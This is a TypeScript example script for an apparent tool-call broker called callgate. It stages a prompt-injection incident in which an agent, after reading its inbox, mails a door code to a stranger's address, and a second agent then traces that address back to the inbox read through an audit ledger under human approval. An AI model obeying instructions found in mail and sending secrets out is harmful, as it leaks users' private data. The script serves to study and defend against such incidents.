// The story of this folder, told by running it: `npm run example review`. Ends with 1 if it went another way.
import { execFileSync } from "node:child_process";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Client } from "@modelcontextprotocol/client";
import { StdioClientTransport } from "@modelcontextprotocol/client/stdio";

const CLI = join(import.meta.dirname, "../../packages/cli/src/main.ts");
const data = mkdtempSync(join(tmpdir(), "callgate-review-"));
const WORK = ["--config", join(import.meta.dirname, "work/callgate.yaml"), "--data", join(data, "work")];
const REVIEW = ["--config", join(import.meta.dirname, "callgate.yaml"), "--data", join(data, "review")];

/** Runs a callgate command to its end and gives what it printed. */
function callgate(...args: string[]): string {
  return execFileSync(process.execPath, [CLI, ...args], { encoding: "utf8" }).trim();
}

/** Says what happened, and ends the story if that is not what should. */
function tell(what: string, is: unknown, wanted: unknown): void {
  console.log(`${what}: ${String(is)}`);
  if (is !== wanted) throw new Error(`the story went another way: it should be ${String(wanted)}`);
}

/** What the reviewer is told of a call that can carry something out. */
interface Sink {
  readonly seq: number;
  readonly tool: string;
  readonly untrusted: {
    readonly values: readonly {
      readonly argument: string;
      readonly value: string;
      readonly from: readonly { readonly tool: string }[];
    }[];
  };
}

/** An agent behind a broker of its own, which ends with it. */
async function agent(config: readonly string[]) {
  const client = new Client({ name: "agent", version: "1.0.0" });
  const args = [CLI, "serve", "--stdio", ...config];
  await client.connect(new StdioClientTransport({ command: process.execPath, args, stderr: "inherit" }));
  return {
    close: () => client.close(),
    /** The rule that stopped a call, else what it was answered. */
    async call<Told>(name: string, given: Record<string, unknown> = {}) {
      const result = await client.callTool({ name, arguments: given });
      const denial = result._meta?.["io.callgate/denial"] as { rule: string } | undefined;
      return { rule: denial?.rule, told: result.structuredContent as Told };
    },
  };
}

try {
  // What happened: an assistant did what a mail told it to.
  const assistant = await agent(WORK);
  await assistant.call("mail__read_inbox");
  const stranger = "archive@letters-backup.example";
  const sent = { to: [stranger], subject: "Door codes", body: "The door code is 4711-2026." };
  tell(
    "the mail to a stranger was stopped by",
    (await assistant.call("mail__send_mail", sent)).rule ?? "nobody",
    "nobody",
  );
  await assistant.close();

  // Another agent reviews it. It finds the session, and where what was read went.
  const reviewer = await agent(REVIEW);
  const query = { query: "tool:mail__send_mail kind:intent" };
  const found = await reviewer.call<{ records: { session: string }[] }>("ledger__query_records", query);
  const session = found.told.records[0]?.session ?? "";
  console.log(`the reviewer found ${session}`);
  const incident = await reviewer.call<{ reached: Sink[] }>("ledger__open_incident", { session });
  const sink = incident.told.reached[0];
  const to = sink?.untrusted.values.find(({ argument }) => argument === "to[0]");
  tell("a sink was reached", sink?.tool, "mail__send_mail");
  tell("to whom it went", to?.value, stranger);
  tell("who named that address", to?.from[0]?.tool, "mail__read_inbox");
  tell("the ledger is", (await reviewer.call<{ verdict: string }>("ledger__verify")).told.verdict, "clean");

  // Its own calls are governed like any others.
  const full = await reviewer.call("ledger__show_record", { seq: sink?.seq });
  tell("reading the mail in full waits for a person", full.rule, "callgate/approval-pending");
  await reviewer.close();

  console.log(`\n${callgate("ledger", "timeline", ...REVIEW)}`);
  const bundle = join(data, "bundle");
  console.log(`\n${callgate("incident", "export", "--session", session, "--out", bundle, ...WORK)}`);
} finally {
  rmSync(data, { recursive: true, force: true });
}
